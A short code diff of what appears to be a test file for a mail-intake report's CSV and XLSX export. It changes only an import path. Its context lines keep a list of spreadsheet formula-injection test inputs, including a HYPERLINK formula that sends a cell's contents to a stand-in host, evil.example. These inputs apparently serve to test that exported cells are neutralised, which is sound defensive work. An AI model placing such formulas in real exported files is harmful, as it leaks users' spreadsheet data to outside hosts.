@@ -19,7 +19,7 @@ from mailintake.report.cells import csv_text, looks_like_formula
 from mailintake.report.export import export_csv, export_xlsx
 from parsers.definitions import load_definitions
 from tests.support.fixtures.env import Env
-from tests.unit.report.test_report_rows import Story, at, report_settings, t34
+from tests.support.report_story import Story, at, report_settings, t34
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B4,"王五")'
 STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
